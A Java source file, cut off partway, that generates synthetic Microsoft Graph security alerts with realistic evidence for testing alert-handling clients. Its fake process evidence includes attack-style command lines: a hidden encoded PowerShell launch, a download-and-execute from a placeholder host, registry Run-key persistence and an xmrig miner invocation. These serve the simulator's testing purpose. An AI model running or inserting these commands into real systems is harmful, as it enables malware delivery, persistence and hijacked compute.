package io.graphsec.routes.simulator;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Objects;
import java.util.Random;
import java.util.Set;
import java.util.UUID;

/**
 * Generates realistic {@code microsoft.graph.security.alert} (alerts_v2) JSON, deterministic for a given seed.
 *
 * <p>Every property of the v1.0 entity is emitted, including the CSDL-only ones, because a client that only ever sees
 * the docs' shortened examples would not notice it chokes on the real thing. Serialised alerts are 3-5 KB, like
 * Defender's. Values come from {@code graph-security-api.md} §1 and Appendix A (CSDL member names, evidence subtypes).
 *
 * <p>All randomness comes from one {@link Random} seeded in the constructor; methods are synchronized so concurrent
 * callers cannot corrupt it (the sequence is then deterministic per call order only).
 */
public final class AlertFactory {

    /** alertSeverity members in CSDL order, without unknownFutureValue. */
    public static final List<String> SEVERITIES = List.of("unknown", "informational", "low", "medium", "high");

    /** serviceSource members declared after unknownFutureValue in the v1.0 CSDL (sent only with Prefer: include-unknown-enum-members). */
    public static final Set<String> EVOLVABLE_SERVICE_SOURCES = Set.of(
            "microsoftDefenderForCloud", "microsoftSentinel", "microsoftInsiderRiskManagement",
            "microsoftThreatIntelligence", "microsoftSecurityForAI");

    /** detectionSource members declared after unknownFutureValue in the v1.0 CSDL. */
    public static final Set<String> EVOLVABLE_DETECTION_SOURCES = Set.of(
            "microsoftDefenderForCloud", "microsoftDefenderForIoT", "microsoftDefenderForServers",
            "microsoftDefenderForStorage", "microsoftDefenderForDNS", "microsoftDefenderForDatabases",
            "microsoftDefenderForContainers", "microsoftDefenderForNetwork", "microsoftDefenderForAppService",
            "microsoftDefenderForKeyVault", "microsoftDefenderForResourceManager", "microsoftDefenderForApiManagement",
            "nrtAlerts", "scheduledAlerts", "microsoftDefenderThreatIntelligenceAnalytics", "builtInMl",
            "microsoftInsiderRiskManagement", "microsoftThreatIntelligence", "microsoftDefenderForAIServices",
            "securityCopilot", "microsoftSentinel");

    // Graph writes DateTimeOffset with 7 fractional digits (.NET ticks), always in UTC.
    private static final DateTimeFormatter GRAPH_DATE_TIME =
            DateTimeFormatter.ofPattern("uuuu-MM-dd'T'HH:mm:ss.SSSSSSS'Z'").withZone(ZoneOffset.UTC);
    // .NET ticks (100 ns) between 0001-01-01 and the Unix epoch: Defender ids embed the creation time as ticks.
    private static final long EPOCH_TICKS = 621_355_968_000_000_000L;
    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
    private static final String PORTAL = "https://security.microsoft.com";
    private static final int MAX_BODY_CHARS = 6000;

    // ------------------------------------------------------------------ data tables

    private enum Ev { DEVICE, USER, IP, FILE, PROCESS, URL, MAILBOX, REGISTRY_KEY, OAUTH_APP }

    /**
     * One kind of detection: what a given product raises, and the evidence it typically attaches. idPrefix: Defender
     * prefixes alert ids with a product code ("da" for Defender for Endpoint in the docs); the other codes are illustrative.
     */
    private record Template(String serviceSource, List<String> detectionSources, String productName, String idPrefix,
                            String title, String description, String category, List<String> mitre,
                            String actions, String threatDisplayName, String threatFamilyName, String actor,
                            List<Ev> evidence) {
        String detectorId() {
            // A detector is the rule, so its id must be the same for every alert the rule raises.
            return UUID.nameUUIDFromBytes(title.getBytes(StandardCharsets.UTF_8)).toString();
        }
    }

    private static final String ENDPOINT_ACTIONS = String.join("\n",
            "Collect artifacts and determine scope",
            "\u2022\tReview the machine timeline for suspicious activities that may have occurred before and after the time of the alert, and record additional related artifacts (files, IPs/URLs).",
            "\u2022\tLook for the presence of relevant artifacts on other systems. Identify commonalities and differences between potentially compromised systems.",
            "\u2022\tSubmit relevant files for deep analysis and review resulting detailed behavioral information.",
            "\u2022\tSubmit undetected files to the MMPC malware portal.",
            "",
            "Initiate containment & mitigation",
            "\u2022\tContact the user to verify intent and initiate local remediation actions as needed.",
            "\u2022\tUpdate AV signatures and run a full scan. The scan might reveal and remove previously-undetected malware components.",
            "\u2022\tEnsure that the machine has the latest security updates. In particular, ensure that you have installed the latest software, web browser, and Operating System versions.",
            "\u2022\tIf credential theft is suspected, reset all relevant users passwords.",
            "\u2022\tBlock communication with relevant URLs or IPs at the organization's perimeter.");
    private static final String EMAIL_ACTIONS = String.join("\n",
            "1. Review the messages in Explorer and confirm that zero-hour auto purge (ZAP) removed them from every mailbox.",
            "2. Check whether any recipient clicked the URL or opened the attachment; use the URL click events and the device timeline of each recipient.",
            "3. For recipients who interacted with the message, reset their credentials, revoke active sessions and review their inbox rules and forwarding settings.",
            "4. Block the sender, the sending domain and the URLs in the Tenant Allow/Block List.",
            "5. If the message reached external partners, notify them and share the indicators.",
            "6. Submit false negatives to Microsoft for analysis so detection improves for your tenant.");
    private static final String IDENTITY_ACTIONS = String.join("\n",
            "1. Contact the user and confirm whether they performed the sign-in or operation shown in the alert.",
            "2. If the activity is not legitimate, require the user to change their password and revoke all refresh tokens and sessions.",
            "3. Review the user's recent sign-ins, MFA registrations, consented applications and mailbox rules for persistence.",
            "4. Check the source IP address in other alerts and sign-in logs; block it with a Conditional Access named location if it is malicious.",
            "5. Make sure the account is protected by multifactor authentication and a risk-based Conditional Access policy.",
            "6. If the account is privileged, review the changes it made to the directory and to Azure resources during the period of the alert.");
    private static final String CLOUD_ACTIONS = String.join("\n",
            "1. Validate whether the activity was performed by a legitimate principal; review the resource's activity log for the period of the alert.",
            "2. If the activity is not expected, rotate the access keys, secrets and SAS tokens of the affected resource and revoke sessions of the principal involved.",
            "3. Restrict network access to the resource with firewall rules or private endpoints and remove public access where it is not required.",
            "4. Review the role assignments on the subscription and the resource group and remove unnecessary permissions.",
            "5. Investigate other resources accessed by the same principal or from the same IP address, and enable the relevant Defender plan if it is not enabled.");

    private static final List<String> MDE_SOURCES = List.of(
            "microsoftDefenderForEndpoint", "microsoftDefenderForEndpoint", "antivirus", "smartScreen", "customTi",
            "automatedInvestigation", "microsoftThreatExperts", "customDetection");

    private static final List<Template> TEMPLATES = List.of(
            new Template("microsoftDefenderForEndpoint", MDE_SOURCES, "Microsoft Defender for Endpoint", "da",
                    "Suspicious PowerShell command line",
                    "A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities which are used by attackers to invoke modules, download external payloads, or get more information about the system. Attackers usually use PowerShell to bypass security protection mechanisms by executing their payload in memory without touching the disk and leaving any trace.",
                    "Execution", List.of("T1059.001", "T1027", "T1105"), ENDPOINT_ACTIONS, null, null, null,
                    List.of(Ev.DEVICE, Ev.PROCESS, Ev.USER, Ev.FILE, Ev.URL, Ev.IP)),
            new Template("microsoftDefenderForEndpoint", MDE_SOURCES, "Microsoft Defender for Endpoint", "da",
                    "Suspicious execution of hidden file",
                    "A hidden file has been launched. This activity could indicate a compromised host. Attackers often hide files associated with malicious tools to evade file system inspection and defenses.",
                    "DefenseEvasion", List.of("T1564.001"), ENDPOINT_ACTIONS, null, null, null,
                    List.of(Ev.DEVICE, Ev.FILE, Ev.PROCESS, Ev.REGISTRY_KEY, Ev.USER)),
            new Template("microsoftDefenderForEndpoint", List.of("antivirus"), "Microsoft Defender for Endpoint", "da",
                    "'Wacatac' malware was detected",
                    "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions on affected machines. Some of these undesirable applications can replicate and spread from one machine to another. Others are able to receive commands from remote attackers and perform activities associated with cyber attacks. This detection might indicate that the malware was stopped from delivering its payload. However, it is prudent to check the machine for signs of infection.",
                    "Malware", List.of("T1204.002"), ENDPOINT_ACTIONS, "Trojan:Win32/Wacatac.B!ml", "Wacatac", null,
                    List.of(Ev.DEVICE, Ev.FILE, Ev.USER, Ev.PROCESS)),
            new Template("microsoftDefenderForEndpoint", MDE_SOURCES, "Microsoft Defender for Endpoint", "da",
                    "Anomaly detected in ASEP registry",
                    "A process registered a suspicious command or file in ASEP registry key, where it will be run after a reboot. An attacker may place a malicious piece of software in such a location to prevent losing access if a machine is turned off.",
                    "Persistence", List.of("T1547.001", "T1112"), ENDPOINT_ACTIONS, null, null, null,
                    List.of(Ev.DEVICE, Ev.REGISTRY_KEY, Ev.PROCESS, Ev.FILE, Ev.USER)),
            new Template("microsoftDefenderForEndpoint", List.of("customTi"), "Microsoft Defender for Endpoint", "ti",
                    "Connection to a custom network indicator",
                    "An endpoint has connected to a URL or domain in your list of custom indicators. The indicator was added by your organization because it is associated with malicious infrastructure.",
                    "CommandAndControl", List.of("T1071.001", "T1568"), ENDPOINT_ACTIONS, null, null, null,
                    List.of(Ev.DEVICE, Ev.URL, Ev.IP, Ev.PROCESS)),
            new Template("microsoftDefenderForOffice365", List.of("microsoftDefenderForOffice365"), "Microsoft Defender for Office 365", "fa",
                    "Email messages containing malicious URL removed after delivery",
                    "Emails with malicious URL that were delivered and later removed -V1.0.0.3. This alert is triggered when any email messages containing malicious URL are delivered to mailboxes in your organization. If this event occurs, Microsoft removes the infected messages from Exchange Online mailboxes using Zero-hour auto purge.",
                    "InitialAccess", List.of("T1566.002"), EMAIL_ACTIONS, null, null, null,
                    List.of(Ev.MAILBOX, Ev.URL, Ev.USER, Ev.IP, Ev.MAILBOX)),
            new Template("microsoftDefenderForOffice365", List.of("microsoftDefenderForOffice365"), "Microsoft Defender for Office 365", "fa",
                    "Email messages containing malware removed after delivery",
                    "Emails with malware that were delivered and later removed -V1.0.0.3. This alert is triggered when any email messages containing malware are delivered to mailboxes in your organization. Microsoft removes the infected messages from Exchange Online mailboxes using Zero-hour auto purge.",
                    "InitialAccess", List.of("T1566.001"), EMAIL_ACTIONS, "Trojan:O97M/Sadoca.C!ml", "Sadoca", null,
                    List.of(Ev.MAILBOX, Ev.FILE, Ev.USER, Ev.IP)),
            new Template("microsoftDefenderForOffice365", List.of("microsoftDefenderForOffice365", "automatedInvestigation"), "Microsoft Defender for Office 365", "fa",
                    "A potentially malicious URL click was detected",
                    "We have detected that one of your users has recently clicked on a link that was found to be malicious. This alert is triggered when users click on a URL that is blocked by Safe Links, or when a URL is identified as malicious after it was clicked.",
                    "InitialAccess", List.of("T1566.002", "T1204.001"), EMAIL_ACTIONS, null, null, null,
                    List.of(Ev.URL, Ev.USER, Ev.MAILBOX, Ev.IP, Ev.DEVICE)),
            new Template("microsoftDefenderForIdentity", List.of("microsoftDefenderForIdentity"), "Microsoft Defender for Identity", "aa",
                    "Suspected DCSync attack (replication of directory services)",
                    "A replication request was sent from a machine that is not a domain controller. Attackers with directory replication permissions can use this request to retrieve password hashes of any account, including krbtgt, without running code on a domain controller.",
                    "CredentialAccess", List.of("T1003.006"), IDENTITY_ACTIONS, null, null, null,
                    List.of(Ev.DEVICE, Ev.USER, Ev.IP, Ev.DEVICE)),
            new Template("microsoftDefenderForIdentity", List.of("microsoftDefenderForIdentity"), "Microsoft Defender for Identity", "aa",
                    "Suspected Kerberos SPN exposure",
                    "An account enumerated service principal names and requested Kerberos service tickets for them. Attackers request these tickets to crack the service account passwords offline (Kerberoasting).",
                    "CredentialAccess", List.of("T1558.003"), IDENTITY_ACTIONS, null, null, null,
                    List.of(Ev.USER, Ev.DEVICE, Ev.IP, Ev.PROCESS)),
            new Template("microsoftDefenderForCloudApps", List.of("cloudAppSecurity"), "Microsoft Defender for Cloud Apps", "ca",
                    "Impossible travel activity",
                    "The user signed in from two countries within a period shorter than the travel time between them. This may indicate that another person is using the user's credentials.",
                    "InitialAccess", List.of("T1078", "T1078.004"), IDENTITY_ACTIONS, null, null, null,
                    List.of(Ev.USER, Ev.IP, Ev.IP, Ev.URL)),
            new Template("microsoftDefenderForCloudApps", List.of("cloudAppSecurity"), "Microsoft Defender for Cloud Apps", "ca",
                    "Mass download by a single user",
                    "A user downloaded an unusually large number of files from a cloud storage app in a single session, compared to the baseline learned for this user and organization.",
                    "Exfiltration", List.of("T1530"), IDENTITY_ACTIONS, null, null, null,
                    List.of(Ev.USER, Ev.IP, Ev.FILE, Ev.FILE, Ev.URL)),
            new Template("azureAdIdentityProtection", List.of("azureAdIdentityProtection"), "Microsoft Entra ID Protection", "ad",
                    "Anonymous IP address",
                    "This risk detection type indicates sign-ins from an anonymous IP address (for example, Tor browser or anonymous VPN). These IP addresses are typically used by actors who want to hide their sign-in information for potentially malicious intent.",
                    "InitialAccess", List.of("T1090.003", "T1078.004"), IDENTITY_ACTIONS, null, null, null,
                    List.of(Ev.USER, Ev.IP, Ev.DEVICE)),
            new Template("azureAdIdentityProtection", List.of("azureAdIdentityProtection"), "Microsoft Entra ID Protection", "ad",
                    "Unfamiliar sign-in properties",
                    "This risk detection type considers past sign-in history to look for anomalous sign-ins. The system stores information about previous sign-ins and triggers a risk detection when a sign-in occurs with properties that are unfamiliar to the user.",
                    "InitialAccess", List.of("T1078.004"), IDENTITY_ACTIONS, null, null, null,
                    List.of(Ev.USER, Ev.IP, Ev.URL)),
            new Template("microsoftAppGovernance", List.of("appGovernanceDetection", "appGovernancePolicy"), "App Governance", "ra",
                    "App with suspicious OAuth scope made graph calls to read email",
                    "An OAuth app with suspicious scopes made a large number of Microsoft Graph calls to read email and create inbox rules. The app may be used to collect data or to maintain persistence in the mailboxes of your users.",
                    "Collection", List.of("T1114.002", "T1528"), IDENTITY_ACTIONS, null, null, null,
                    List.of(Ev.OAUTH_APP, Ev.USER, Ev.IP, Ev.MAILBOX)),
            new Template("dataLossPrevention", List.of("microsoftDataLossPrevention"), "Microsoft Data Loss Prevention", "dl",
                    "DLP policy (Financial data) matched for email",
                    "An email sent by a user in your organization matched the data loss prevention policy 'Financial data'. The message contained credit card numbers and bank account numbers and was sent to a recipient outside your organization.",
                    "Exfiltration", List.of("T1048"), EMAIL_ACTIONS, null, null, null,
                    List.of(Ev.MAILBOX, Ev.USER, Ev.FILE)),
            new Template("microsoft365Defender", List.of("microsoft365Defender"), "Microsoft Defender XDR", "ed",
                    "Suspicious inbox manipulation rule",
                    "A suspicious inbox rule was created that moves or deletes messages. Attackers who gain access to a mailbox create such rules to hide security notifications, to exfiltrate email or to conduct business email compromise.",
                    "DefenseEvasion", List.of("T1564.008", "T1114.003"), IDENTITY_ACTIONS, null, null, null,
                    List.of(Ev.MAILBOX, Ev.USER, Ev.IP)),
            new Template("microsoft365Defender", List.of("microsoft365Defender"), "Microsoft Defender XDR", "ed",
                    "Ransomware-linked threat actor detected",
                    "An activity group known to deploy ransomware was observed on one or more devices in your organization. The activity matches tools and techniques the group uses before encrypting files.",
                    "Ransomware", List.of("T1486", "T1490"), ENDPOINT_ACTIONS, null, null, "Storm-0501",
                    List.of(Ev.DEVICE, Ev.PROCESS, Ev.FILE, Ev.USER, Ev.IP)));

    /** Products whose serviceSource (and detectionSource) are members declared after unknownFutureValue. */
    private static final List<Template> EVOLVABLE_TEMPLATES = List.of(
            new Template("microsoftSentinel", List.of("scheduledAlerts", "nrtAlerts", "microsoftSentinel"), "Microsoft Sentinel", "sn",
                    "Brute force attack against Azure Portal",
                    "Identifies evidence of brute force activity against the Azure Portal by highlighting multiple authentication failures and a successful authentication within a given time window.",
                    "CredentialAccess", List.of("T1110", "T1110.003"), IDENTITY_ACTIONS, null, null, null,
                    List.of(Ev.USER, Ev.IP, Ev.IP, Ev.URL)),
            new Template("microsoftSentinel", List.of("scheduledAlerts", "nrtAlerts"), "Microsoft Sentinel", "sn",
                    "Rare and potentially high-risk Office operations",
                    "Identifies Office operations that are typically rare and can provide capabilities useful to attackers, such as mailbox permission changes and mail forwarding to external domains.",
                    "Persistence", List.of("T1098.002", "T1114.003"), IDENTITY_ACTIONS, null, null, null,
                    List.of(Ev.USER, Ev.MAILBOX, Ev.IP)),
            new Template("microsoftDefenderForCloud", List.of("microsoftDefenderForServers"), "Microsoft Defender for Cloud", "dc",
                    "Digital currency mining related behavior detected",
                    "Analysis of host data detected the execution of a process or command normally associated with digital currency mining. Attackers use compromised resources to mine digital currencies at the expense of the owner.",
                    "Impact", List.of("T1496"), CLOUD_ACTIONS, null, null, null,
                    List.of(Ev.DEVICE, Ev.PROCESS, Ev.FILE, Ev.IP)),
            new Template("microsoftDefenderForCloud", List.of("microsoftDefenderForStorage"), "Microsoft Defender for Cloud", "dc",
                    "Access from a suspicious IP address to a storage account",
                    "Indicates that a blob container in the storage account was accessed successfully from an IP address that has been identified as suspicious by Microsoft Threat Intelligence.",
                    "InitialAccess", List.of("T1078", "T1530"), CLOUD_ACTIONS, null, null, null,
                    List.of(Ev.IP, Ev.URL, Ev.USER)),
            new Template("microsoftDefenderForCloud", List.of("microsoftDefenderForKeyVault", "microsoftDefenderForResourceManager"), "Microsoft Defender for Cloud", "dc",
                    "Unusual volume of operations in a key vault",
                    "An unusually high number of key vault operations was performed by a principal in a short period, compared to the historical baseline of the vault. This may indicate an attacker harvesting secrets.",
                    "CredentialAccess", List.of("T1555.006"), CLOUD_ACTIONS, null, null, null,
                    List.of(Ev.USER, Ev.IP, Ev.OAUTH_APP)),
            new Template("microsoftInsiderRiskManagement", List.of("microsoftInsiderRiskManagement"), "Microsoft Purview Insider Risk Management", "ir",
                    "Data theft by departing user",
                    "A user with a resignation or termination date recorded in the HR connector downloaded and copied an unusual amount of sensitive files to personal cloud storage and removable media.",
                    "Exfiltration", List.of("T1567.002", "T1052"), IDENTITY_ACTIONS, null, null, null,
                    List.of(Ev.USER, Ev.FILE, Ev.FILE, Ev.DEVICE)),
            new Template("microsoftThreatIntelligence", List.of("microsoftThreatIntelligence", "microsoftDefenderThreatIntelligenceAnalytics"), "Microsoft Defender Threat Intelligence", "mt",
                    "Communication with infrastructure of a tracked threat actor",
                    "A device or user in your organization communicated with an IP address or domain that Microsoft Threat Intelligence attributes to a tracked threat actor.",
                    "CommandAndControl", List.of("T1071", "T1583.001"), ENDPOINT_ACTIONS, null, null, "Midnight Blizzard",
                    List.of(Ev.IP, Ev.URL, Ev.DEVICE, Ev.USER)));

    private static final String[] FIRST_NAMES = {"Adele", "Alex", "Diego", "Grady", "Henrietta", "Isaiah", "Johanna",
            "Joni", "Lee", "Lidia", "Lynne", "Megan", "Miriam", "Nestor", "Patti", "Pradeep"};
    private static final String[] LAST_NAMES = {"Vance", "Wilber", "Siciliani", "Archie", "Mueller", "Langer",
            "Lorenz", "Sherman", "Gu", "Holloway", "Robbins", "Bowen", "Graham", "Wilke", "Fernandez", "Gupta"};
    private static final String DOMAIN = "contoso.com";
    private static final String NT_DOMAIN = "CONTOSO";
    private static final String[] HOST_PREFIXES = {"ws", "lap", "desk", "srv", "vm"};
    private static final String[][] OS_PLATFORMS = {
            {"Windows11", "22631", "23H2"}, {"Windows11", "26100", "24H2"}, {"Windows10", "19045", "22H2"},
            {"WindowsServer2022", "20348", "Other"}, {"WindowsServer2019", "17763", "1809"}, {"Linux", "0", "Other"}};
    private static final String[] RBAC_GROUPS = {"UnassignedGroup", "Workstations", "Servers-Tier1", "Finance-Laptops"};
    // countryLetterCode, countryName, state, city, latitude, longitude
    private static final String[][] LOCATIONS = {
            {"US", "United States", "Washington", "Redmond", "47.6740", "-122.1215"},
            {"NL", "Netherlands", "North Holland", "Amsterdam", "52.3676", "4.9041"},
            {"DE", "Germany", "Hesse", "Frankfurt am Main", "50.1109", "8.6821"},
            {"RU", "Russia", "Moscow", "Moscow", "55.7558", "37.6173"},
            {"BR", "Brazil", "Sao Paulo", "Sao Paulo", "-23.5505", "-46.6333"},
            {"SG", "Singapore", "Singapore", "Singapore", "1.3521", "103.8198"},
            {"NG", "Nigeria", "Lagos", "Lagos", "6.5244", "3.3792"},
            {"RO", "Romania", "Bucuresti", "Bucharest", "44.4268", "26.1025"}};
    // fileName, filePath, publisher, signer, issuer, typical size
    private static final String[][] FILES = {
            {"powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "Microsoft Corporation", "Microsoft Windows", "Microsoft Windows Production PCA 2011", "450560"},
            {"rundll32.exe", "C:\\Windows\\System32", "Microsoft Corporation", "Microsoft Windows", "Microsoft Windows Production PCA 2011", "71680"},
            {"Invoice_0423.docm", "C:\\Users\\%USER%\\Downloads", null, null, null, "184320"},
            {"update_helper.dll", "C:\\Users\\%USER%\\AppData\\Local\\Temp", null, null, null, "1249280"},
            {"svchost32.exe", "C:\\ProgramData\\Microsoft\\Crypto", null, null, null, "3145728"},
            {"xmrig.exe", "C:\\Windows\\Temp\\~cache", null, null, null, "6136392"},
            {"AnyDesk.exe", "C:\\Users\\%USER%\\Desktop", "philandro Software GmbH", "philandro Software GmbH", "DigiCert SHA2 Assured ID Code Signing CA", "3981312"},
            {"Q3-forecast.xlsx", "C:\\Users\\%USER%\\OneDrive - Contoso\\Finance", null, null, null, "842752"}};
    private static final String[] PARENT_IMAGES = {"explorer.exe", "WINWORD.EXE", "cmd.exe", "services.exe", "wmiprvse.exe"};
    private static final String[] COMMAND_LINES = {
            "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            "powershell.exe -ExecutionPolicy Bypass -Command \"IEX (New-Object Net.WebClient).DownloadString('http://%HOST%/a.ps1')\"",
            "rundll32.exe \"C:\\Users\\%USER%\\AppData\\Local\\Temp\\update_helper.dll\",DllRegisterServer",
            "cmd.exe /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d \"C:\\ProgramData\\Microsoft\\Crypto\\svchost32.exe\" /f",
            "xmrig.exe --donate-level 1 -o pool.%HOST%:443 -u 4AdUndXHHZ9pfQj27 -k --tls"};
    private static final String[] URL_HOSTS = {"login-microsoftonline-verify.com", "contoso-sharepoint.docs-view.net",
            "cdn-update-service.org", "invoice-portal.top", "secure-m365-auth.info", "files-transfer-now.xyz"};
    private static final String[][] REGISTRY_KEYS = {
            {"HKEY_CURRENT_USER", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"},
            {"HKEY_LOCAL_MACHINE", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce"},
            {"HKEY_LOCAL_MACHINE", "SYSTEM\\CurrentControlSet\\Services\\WinDefendHelper"},
            {"HKEY_LOCAL_MACHINE", "SYSTEM\\CONTROLSET001\\CONTROL\\WMI\\AUTOLOGGER\\SENSEAUDITLOGGER"}};
    private static final String[][] OAUTH_APPS = {{"MailSync Pro", "MailSync Ltd"}, {"PDF Converter Online", "Unverified"},
            {"Contoso HR Bot", "Contoso"}};
    private static final String[] INVESTIGATION_STATES = {"unsupportedAlertType", "unsupportedAlertType", "queued",
            "running", "pendingApproval", "pendingResource", "unknown"};
    private static final String[] VERDICTS = {"suspicious", "suspicious", "malicious", "unknown", "noThreatsFound"};
    private static final String[] REMEDIATION = {"none", "none", "none", "notFound", "prevented", "blocked", "active"};

    // ------------------------------------------------------------------ state

    private final Random random;
    private final String tenantId;

    public AlertFactory(long seed, String tenantId) {
        this.random = new Random(seed);
        this.tenantId = Objects.requireNonNull(tenantId, "tenantId");
    }

    /**
     * A new alert created at {@code created} (createdDateTime = lastUpdateDateTime = created, first/lastActivity a bit
     * before), with the given severity (a wire value like "high", "informational", "unknown") and incidentId. Status "new".
     */
    public synchronized ObjectNode newAlert(Instant created, String severity, String incidentId) {
        Objects.requireNonNull(created, "created");
        if (!SEVERITIES.contains(severity) && !"unknownFutureValue".equals(severity)) {
            throw new IllegalArgumentException("not an alertSeverity member: " + severity);
        }
        return build(created, severity, incidentId);
    }

    /** Same, with a severity drawn from a realistic mix covering every alertSeverity member. */
    public synchronized ObjectNode newAlert(Instant created, String incidentId) {
        Objects.requireNonNull(created, "created");
        return build(created, randomSeverity(), incidentId);
    }

    private String randomSeverity() {
        int r = random.nextInt(100);
        if (r < 15) return "high";
        if (r < 50) return "medium";
        if (r < 75) return "low";
        if (r < 95) return "informational";
        return "unknown";
    }

    // ------------------------------------------------------------------ alert

    /** The people and machine one alert is about, so that all its evidence tells the same story. */
    private record Scene(String first, String last, String userSid, String aadUserId, String hostName,
                         String mdeDeviceId, String[] os, String[] location, String publicIp, String privateIp) {
        String account() { return (first + "." + last).toLowerCase(Locale.ROOT); }
        String upn() { return account() + "@" + DOMAIN; }
        String displayName() { return first + " " + last; }
    }

    private ObjectNode build(Instant created, String severity, String incidentId) {
        // About 1 alert in 8 comes from a product whose enum members postdate unknownFutureValue.
        Template t = random.nextInt(8) == 0 ? pick(EVOLVABLE_TEMPLATES) : pick(TEMPLATES);
        Scene scene = newScene();
        String id = t.idPrefix() + ticks(created) + "_" + random.nextInt();
        Instant firstActivity = created.minus(Duration.ofMillis(60_000L + random.nextInt(3 * 3_600_000)));
        Instant lastActivity = created.minus(Duration.ofMillis(5_000L + random.nextInt(600_000)));
        if (lastActivity.isBefore(firstActivity)) {
            lastActivity = firstActivity;
        }

        ObjectNode a = JSON.objectNode();
        a.put("@odata.type", "#microsoft.graph.security.alert");
        a.put("id", id);
        a.put("providerAlertId", id);
        a.put("incidentId", incidentId);
        a.put("status", "new");
        a.put("severity", severity);
        a.putNull("classification");
        a.putNull("determination");
        a.put("serviceSource", t.serviceSource());
        a.put("detectionSource", pick(t.detectionSources()));
        a.put("productName", t.productName());
        a.put("detectorId", t.detectorId());
        a.put("tenantId", tenantId);
        a.put("title", t.title());
        a.put("description", t.description());
        a.put("recommendedActions", t.actions());
        a.put("category", t.category()); // deprecated, still sent alongside categories
        a.set("categories", JSON.arrayNode().add(t.category()));
        a.putNull("assignedTo");
        a.put("alertWebUrl", PORTAL + "/alerts/" + id + "?tid=" + tenantId);
        a.put("incidentWebUrl", incidentId == null ? null : PORTAL + "/incidents/" + incidentId + "?tid=" + tenantId);
        a.put("actorDisplayName", t.actor());
        a.put("threatDisplayName", t.threatDisplayName());
        a.put("threatFamilyName", t.threatFamilyName());
        a.put("alertPolicyId", policyBased(t) ? uuid() : null);
        a.put("investigationState", t.serviceSource().equals("microsoftDefenderForEndpoint")
                ? pick(INVESTIGATION_STATES) : "unsupportedAlertType");
        ArrayNode mitre = JSON.arrayNode();
        t.mitre().forEach(mitre::add);
        a.set("mitreTechniques", mitre);
        a.put("createdDateTime", format(created));
        a.put("lastUpdateDateTime", format(created));
        a.putNull("resolvedDateTime");
        a.put("firstActivityDateTime", format(firstActivity));
        a.put("lastActivityDateTime", format(lastActivity));
        a.set("comments", JSON.arrayNode());
        ArrayNode evidence = a.putArray("evidence"); // filled last: its size budget depends on the rest of the body
        ArrayNode systemTags = JSON.arrayNode();
        if (random.nextInt(10) == 0) {
            systemTags.add("Defender Experts");
        }
        a.set("systemTags", systemTags);
        a.set("additionalData", additionalData(t));
        a.set("customDetails", customDetails(t, scene));
        fillEvidence(evidence, a, t, scene, created);
        return a;
    }

    private static boolean policyBased(Template t) {
        return Set.of("dataLossPrevention", "microsoftAppGovernance", "microsoftInsiderRiskManagement", "microsoftSentinel")
                .contains(t.serviceSource());
    }

    private ObjectNode additionalData(Template t) {
        ObjectNode d = JSON.objectNode();
        d.put("alertSourceProduct", t.productName());
        d.put("detectionTechnology", t.detectionSources().get(0));
        if (t.evidence().contains(Ev.DEVICE)) {
            d.put("machineGroup", pick(RBAC_GROUPS));
        }
        return d;
    }

    private ObjectNode customDetails(Template t, Scene s) {
        ObjectNode d = JSON.objectNode();
        // Only analytics rules (Sentinel, custom detections) carry custom details; the others send an empty dictionary.
        if (t.serviceSource().equals("microsoftSentinel")) {
            d.put("FailedLogons", String.valueOf(20 + random.nextInt(400)));
            d.put("TargetAccount", s.upn());
            d.put("SourceIPAddress", s.publicIp());
        }
        return d;
    }

    // ------------------------------------------------------------------ evidence

    /**
     * 2-5 evidence items: the template's core kind first, then others from its list in random order (a list names a
     * kind twice when an alert really carries two, e.g. both IPs of an impossible-travel pair). Items beyond the second
     * are dropped once the body would pass {@link #MAX_BODY_CHARS}, which keeps alerts near Defender's 3-5 KB.
     */
    private void fillEvidence(ArrayNode items, ObjectNode alert, Template t, Scene s, Instant created) {
        int wanted = 2 + random.nextInt(Math.min(5, t.evidence().size()) - 1);
        List<Ev> rest = new ArrayList<>(t.evidence().subList(1, t.evidence().size()));
        Collections.shuffle(rest, random);
        List<Ev> kinds = new ArrayList<>();
        kinds.add(t.evidence().get(0));
        kinds.addAll(rest.subList(0, wanted - 1));
        int size = alert.toString().length();
        for (Ev kind : kinds) {
            ObjectNode item = evidenceItem(kind, s, created);
            int itemSize = item.toString().length() + 1;
            if (items.size() >= 2 && size + itemSize > MAX_BODY_CHARS) {
                break;
            }
            items.add(item);
            size += itemSize;
        }
    }

    private ObjectNode evidenceItem(Ev kind, Scene s, Instant created) {
        return switch (kind) {
            case DEVICE -> deviceEvidence(s, created);
            case USER -> userEvidence(s, created);
            case IP -> ipEvidence(s, created);
            case FILE -> fileEvidence(s, created);
            case PROCESS -> processEvidence(s, created);
            case URL -> urlEvidence(created);
            case MAILBOX -> mailboxEvidence(s, created);
            case REGISTRY_KEY -> registryKeyEvidence(created);
            case OAUTH_APP -> oauthApplicationEvidence(created);
        };
    }

    /** The alertEvidence base properties every subtype carries, in the order Graph writes them. */
    private ObjectNode base(String subtype, Instant created, List<String> roles, List<String> detailedRoles) {
        ObjectNode e = JSON.objectNode();
        e.put("@odata.type", "#microsoft.graph.security." + subtype);
        e.put("createdDateTime", format(created));
        e.put("verdict", pick(VERDICTS));
        String remediation = pick(REMEDIATION);
        e.put("remediationStatus", remediation);
        e.put("remediationStatusDetails", remediation.equals("none") ? null : "Remediation action: " + remediation);
        ArrayNode r = JSON.arrayNode();
        roles.forEach(r::add);
        e.set("roles", r);
        ArrayNode dr = JSON.arrayNode();
